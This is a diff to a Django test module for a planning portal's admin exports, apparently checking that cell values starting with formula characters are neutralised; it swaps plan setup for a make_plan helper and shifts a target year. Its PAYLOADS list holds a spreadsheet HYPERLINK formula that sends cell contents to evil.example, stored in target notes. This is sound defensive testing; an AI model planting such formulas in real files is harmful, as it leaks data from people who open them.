@@ -11,7 +11,6 @@ portal writes, whatever it starts with (=, +, -, @, a tab, a carriage return).
 from __future__ import annotations
 
 import csv
-import datetime
 import io
 from decimal import Decimal
 
@@ -20,7 +19,7 @@ from django.urls import reverse
 
 from indicators.models import Indicator, Measure
 from indicators.resources import COLUMNS as INDICATOR_COLUMNS
-from plans.models import Plan, PlanStatus, Target, TargetKind
+from plans.models import Target, TargetKind
 from plans.resources import COLUMNS as TARGET_COLUMNS
 from plans.services import period_get_or_create
 from reports.models import RollupNote, Value
@@ -28,6 +27,7 @@ from reports.resources import EXPORT_COLUMNS as VALUE_COLUMNS
 
 from .base import PersonasTestCase
 from .test_export_xlsx import ExcelTestCase, workbook_of
+from .test_submissions import make_plan
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
@@ -45,16 +45,7 @@ class AdminExportTestCase(PersonasTestCase):
     def setUpTestData(cls):
         super().setUpTestData()
         cls.period = period_get_or_create(code="2024")
-        cls.plan = Plan.objects.create(
-            unit=cls.hanoi,
-            issuing_body="UBND Thành phố Hà Nội",
-            number="290/KH-UBND",
-            issued_on=datetime.date(2021, 12, 16),
-            title="XHHT 2021-2030",
-            start_year=2021,
-            end_year=2030,
-            status=PlanStatus.ISSUED,
-        )
+        cls.plan = make_plan(cls.hanoi)
         communes = [cls.tanlinh, cls.batrai, cls.coloa, cls.ytich]
         for n, payload in enumerate(PAYLOADS):
             unit = communes[n % len(communes)]
@@ -66,7 +57,7 @@ class AdminExportTestCase(PersonasTestCase):
                 plan=cls.plan,
                 indicator=indicator,
                 unit=unit,
-                year=2025,
+                year=2026,
                 kind=TargetKind.AT_LEAST,
                 value=n,
                 note=payload,
